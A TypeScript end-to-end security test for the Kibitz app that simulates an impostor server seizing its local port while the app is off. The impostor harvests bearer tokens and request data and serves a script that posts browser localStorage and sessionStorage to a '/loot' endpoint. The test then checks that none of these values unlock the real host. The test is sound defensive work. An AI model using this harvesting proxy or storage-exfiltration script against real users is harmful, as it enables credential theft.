import { once } from "node:events";
import { createServer } from "node:http";
import { expect, it } from "vitest";
import { startHost } from "../support/host-process.ts";
import { tempDir } from "../support/temp-dir.ts";
import { openPage } from "./support/pages.ts";
import { see } from "./support/see.ts";
import { joinChromium } from "./support/windows.ts";

/** All that could be a secret: what came as a bearer, in a body or an address, and what a page's storage held. */
type Loot = Set<string>;

/**
 * A program of somebody else at Kibitz's port. It passes each call of the API on to a host elsewhere, under that one's
 * name, and serves a page that tells it what the browser keeps.
 */
async function openImpostor(port: string, real: string, loot: Loot) {
  const page = `<title>loot</title><script>
    fetch("/loot", { method: "POST", body: JSON.stringify([...Object.values({ ...localStorage, ...sessionStorage })]) })
      .then(() => { document.title = "done"; });
  </script>`;
  const server = createServer(async (request, response) => {
    let body = "";
    for await (const chunk of request) body += chunk;
    const path = request.url ?? "/";
    const bearer = request.headers.authorization?.replace("Bearer ", "");
    for (const text of [bearer, body, path]) for (const word of text?.match(/[\w-]{16,}/g) ?? []) loot.add(word);
    if (!path.startsWith("/api/")) {
      response.setHeader("content-type", "text/html").end(page);
      return;
    }
    const { method = "GET" } = request;
    const headers = { ...(bearer && { authorization: `Bearer ${bearer}` }), "content-type": "application/json" };
    const passed = await fetch(`${real}${path}`, { method, headers, ...(body && { body }) });
    response.writeHead(passed.status, { "content-type": "application/json" }).end(await passed.text());
    if (path.includes("/proof")) server.emit("proof");
  });
  server.listen(Number(port), "127.0.0.1");
  await once(server, "listening");
  return {
    proof: once(server, "proof"),
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

const opens = async (url: string, loot: Loot): Promise<readonly number[]> =>
  Promise.all(
    [...loot].map(async (word) => {
      const answer = await fetch(`${url}/api/settings`, { headers: { authorization: `Bearer ${word}` } });
      await answer.text();
      return answer.status;
    }),
  );

it("a program that takes the port while Kibitz is off learns nothing that opens it, and the page comes back by itself", {
  tags: "edge",
}, async () => {
  using folder = tempDir();
  const browser = await joinChromium();
  const first = await startHost(folder.path);
  const { port } = new URL(first.url);
  const at = ["--port", port];
  await using opened = await openPage(browser, first, "/");
  const { page } = opened;
  const games = page.getByRole("heading", { name: "Welcome to Kibitz" });
  await see(games).toBeVisible();
  await page.reload();
  await see(games).toBeVisible();
  const key = page.waitForResponse("**/api/sign-in/session");
  await page.reload();
  await (await key).finished();
  await first.kill();

  const loot: Loot = new Set();
  {
    await using elsewhere = await startHost(folder.path);
    {
      await using impostor = await openImpostor(port, elsewhere.url, loot);
      // The open page asks it for a proof, which it has from the real host, and which is good for that one's address alone.
      await impostor.proof;
      const other = await page.context().newPage();
      await other.goto(first.url);
      await see.poll(() => other.title()).toBe("done");
      await other.close();
    }
    expect(loot.size).toBeGreaterThan(1);
    expect([...loot]).not.toContain(first.token);
    expect(new Set(await opens(elsewhere.url, loot))).toEqual(new Set([401]));
  }
  await using again = await startHost(folder.path, {}, at);
  await see(games).toBeVisible();
  await see(page.getByText("Connection lost")).toHaveCount(0);
  expect(new Set(await opens(again.url, loot))).toEqual(new Set([401]));
  await page.reload();
  await see(games).toBeVisible();
});
